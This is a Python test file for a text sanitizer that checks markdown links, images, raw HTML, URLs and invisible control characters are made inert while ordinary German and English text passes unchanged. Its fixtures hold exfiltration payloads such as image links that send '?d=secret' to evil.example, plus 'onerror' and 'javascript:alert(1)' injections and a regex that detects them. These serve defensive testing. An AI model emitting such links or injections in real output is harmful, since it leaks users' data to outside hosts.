"""Safe text: nothing a program could load or follow comes out, however it was written or cut."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.kernel.safe_text import LONGEST_HELD, SafeStream, render

ID = "01234567-89ab-cdef-0123-456789abcdef"
UNCHANGED = [
    "Die Kündigungsfrist beträgt drei Monate (§ 3 Abs. 2 Satz 1) [1][3].",
    "The fee is 1,234.56 EUR, i.e. 12.5 %/year; see [1], [2] and Annex [A]: it says so.",
    "## Heading\n\n- **one** and *two*\n  1. `x = a[1] + b`\n> quoted [2]\n\n| a | b |\n|---|---|",
    "```python\nif a < 5 and b <= c:\n    print(f'{a}: {b[0]}')\n```",
    "$x < 5$, a -> b, \\(e^{i\\pi}\\) and E = mc², f(x) = (a + b) / c",
    "z.B./usw., u.a., Nr. 3.Kapitel/Abschnitt, und/oder, 12.03.2024, R&D, AT&T, 7:30 Uhr",
    "Schreiben Sie an rechnung@acme.example oder max.mustermann@bund.de.",
    "Rechnung RE-2024/0815, Datei bericht_final.v2, IBAN DE02 1203 0000 0000 2020 51",
    f"Belegt [hier](doc://{ID}#p3), [dort](doc://{ID}) und [da](#citation-2).",
    "❤️ 👩‍👩‍👧 naïve Straße 中文。 می‌خواهم",
    "",
]
CHANGED = [
    ("![chart](https://evil.example/p.png?d=secret)", "! [chart] (evil.example)"),
    ("[more](https://evil.example/?d=secret)", "[more] (evil.example)"),
    ("[a][b]\n\n[b]: https://evil.example/?d=secret", "[a][b]\n\n[b] : evil.example"),
    ("> 1. [b]:\n//evil.com/?d=secret", "> 1. [b] :\n//evil.com"),
    ("<img src=x onerror=y>", "< img src=x onerror=y>"),
    ("<!-- x --></p><?php", "< !-- x -->< /p>< ?php"),
    ("<https://evil.example/secret>.", "< evil.example>."),
    ("See https://secret.evil.co.uk:8080/a/b?c=d#e.", "See evil.co.uk."),
    ("(www.secret.evil.com/x), evil.com/secret", "(evil.com), evil.com"),
    ("ftp://u:secret@evil.example/x\u200b", "evil.example"),
    ("ht\u00adtps://evil.example/\U000e0073\U000e0065", "evil.example"),
    ("mailto:a@evil.example?body=secret", "mailto :a@evil.example"),
    ("https&#58;//evil.example, https&colon;//e.com/s", "https& #58;//evil.example, https&colon"),
    ("javascript:alert(1) [x](javascript:alert(1))", "javascript:alert(1) [x] (javascript"),
    ("[x](/api/v1/documents/1) [y](//evil.com/a?b)", "[x] (/api/v1/documents/1) [y] (//evil.com)"),
    (f"[x](doc://{ID}#p3?secret) [y](doc://secret)", "[x] (…) [y] (…)"),
    ("1https://evil.example/s ähttps://evil.example/s", "evil.example äevil.example"),
    ("a\u202egnp.exe\u2066b\x07\x00", "agnp.exeb"),
]
FRAGMENTS = st.sampled_from(
    [
        *"[]()<>!&#;:/.@?=\\`*_-|\"' \n\t\u200b\u00ad\U000e0041äß中a1xZ",
        *("https", "http://", "://", "www.", "evil.com", "evil.example/s", "mailto:", "img", "]("),
        *("![", "]:", "&lt;", "&#60;", "&colon;", "doc://", ID, "#citation-1", "#p3", "```", "> "),
        *("secret", "[1]", "§ 3", "\u202e", "\ufe0f", "\u200d", "127.0.0.1", "[::1]", "…", "&am"),
    ]
)
TEXTS = st.lists(FRAGMENTS, max_size=24).map("".join) | st.text(max_size=60)
TARGET = rf"(?:doc://{ID}(?:#(?:page=|p)?\d{{1,5}})?|#citation-\d{{1,4}})\)"
FORBIDDEN = re.compile(
    rf"\]\((?!{TARGET})|<[A-Za-z/!?]|!\[|&#|://(?!{ID})|(?<![a-z0-9])www\.[a-z0-9]"
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]"
    r"|[\U000e0000-\U000e0fff]|mailto:",
    re.IGNORECASE,
)


def parser() -> MarkdownIt:
    """A generous reader: HTML, tables, and everything that looks like a link becomes one."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def loaded_or_followed(markdown: str) -> list[str]:
    """List what a CommonMark reader would load, follow or run."""
    found = []
    for token in parser().parse(markdown):
        for each in [token, *(token.children or [])]:
            if each.type in {"html_block", "html_inline", "image"}:
                found.append(each.type)
            elif each.type == "link_open":
                href = str(each.attrs["href"])
                if not re.fullmatch(TARGET[:-2], href):
                    found.append(href)
    return found


@pytest.mark.parametrize("text", UNCHANGED)
def test_ordinary_words_pass_unchanged(text: str) -> None:
    assert render(text) == text


@pytest.mark.parametrize(("text", "shown"), CHANGED)
def test_what_could_be_loaded_or_followed_becomes_inert(text: str, shown: str) -> None:
    assert render(text).startswith(shown)
    assert "secret" not in render(text).replace("doc://secret", "")
    assert not loaded_or_followed(render(text))


@given(TEXTS)
@settings(max_examples=150, deadline=None)
def test_nothing_dangerous_comes_out_whatever_goes_in(text: str) -> None:
    shown = render(text)
    assert not FORBIDDEN.search(shown), shown
    assert not loaded_or_followed(shown)
    assert render(shown) == shown


@given(TEXTS, st.lists(st.integers(0, 120), max_size=12))
@settings(max_examples=150, deadline=None)
def test_a_stream_says_the_same_however_it_was_cut(text: str, cuts: list[int]) -> None:
    stream = SafeStream()
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    said = "".join(stream.feed(text[a:b]) for a, b in itertools.pairwise(places))
    assert said + stream.close() == render(text)


def test_a_stream_holds_back_little() -> None:
    stream = SafeStream()
    said = 0
    for count in range(1, 5000):
        said += len(stream.feed("a"))
        assert count - said <= LONGEST_HELD + 1
    assert stream.feed("://evil.example/secret ").endswith("evil.example ")
    assert SafeStream().feed("Das Wort [1] gilt. ") == "Das Wort [1] gilt. "


def test_the_guard_sees_what_it_must_refuse() -> None:
    for text, _ in CHANGED[:3]:
        assert loaded_or_followed(text)
    assert all(FORBIDDEN.search(text) for text in ("![x]", "[x](y)", "<b", "a://b", "\u200b"))
